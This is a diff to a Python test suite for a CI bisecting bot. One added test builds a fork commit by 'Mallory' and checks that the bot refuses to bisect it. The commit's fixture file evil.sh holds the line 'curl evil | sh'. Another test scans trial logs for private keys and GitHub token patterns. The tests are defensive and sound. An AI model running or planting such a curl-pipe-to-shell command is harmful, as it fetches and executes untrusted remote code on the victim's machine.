@@ -8,6 +8,7 @@ from pathlib import Path
 from typing import cast
 
 from bot.app import Bot
+from bot.demo.bare import Signature
 from bot.demo.runner import Runner
 from bot.demo.server import DemoGitHub
 from tests.chaos.lane import API_TOKEN, Lane
@@ -18,6 +19,7 @@ from tests.playbooks.bisect.bisecting import (
     fixes,
     hidden_refs,
     history,
+    measured,
     running,
 )
 from tests.playbooks.conftest import Shop
@@ -118,6 +120,28 @@ async def test_trials_that_fail_on_main_start_no_incident_of_their_own(shop: Sho
         for run in on_main["check_runs"]
     )
     assert len(await shop.incidents()) == 1
+    failed = sum(run["conclusion"] == "failure" for run in on_main["check_runs"])
+    measured(
+        f"{failed} trials failed on main: {len(await shop.incidents())} incident, the bisect's own"
+    )
+
+
+async def test_a_commit_of_a_fork_is_refused_though_github_resolves_it(shop: Shop) -> None:
+    past = await history(shop, 6, 3)
+    await past.says_ci_on_the_end("failure")
+    git = shop.repository.git
+    tree = git.write_tree(None, {"evil.sh": ("100755", git.write("blob", b"curl evil | sh"))})
+    who = Signature("Mallory", "mallory@example.com", shop.github.world.now())
+    # A fork shares the network's objects: its commits have an address in the parent too.
+    forked = git.write_commit(tree, [past.commits[-1]], "Innocent\n", who)
+    assert (await shop.alice.get(f"commits/{forked}"))["sha"] == forked
+    number, answer = await past.bisected(f"/bisect {past.commits[0]}..{forked} check smoke")
+    assert await answer.reaction() == "confused"
+    [refusal] = await shop.from_bot(number)
+    assert "commits of forks cannot be named" in refusal
+    assert dispatched(shop) == []
+    assert await shop.incidents() == []
+    measured(f"a fork's {forked[:9]}: refused, {len(dispatched(shop))} runs dispatched")
 
 
 async def test_a_trial_sees_no_secret_of_the_bot(shop: Shop) -> None:
@@ -130,6 +154,7 @@ async def test_a_trial_sees_no_secret_of_the_bot(shop: Shop) -> None:
     assert "PRIVATE KEY" not in logs
     assert API_TOKEN not in logs
     assert not re.search(r"gh[ps]_[A-Za-z0-9]{20}", logs)
+    measured(f"{len(dispatched(shop))} trials, {len(logs)} bytes of their environments: no secret")
 
 
 async def test_two_fixes_at_once_can_both_be_merged(shop: Shop) -> None:
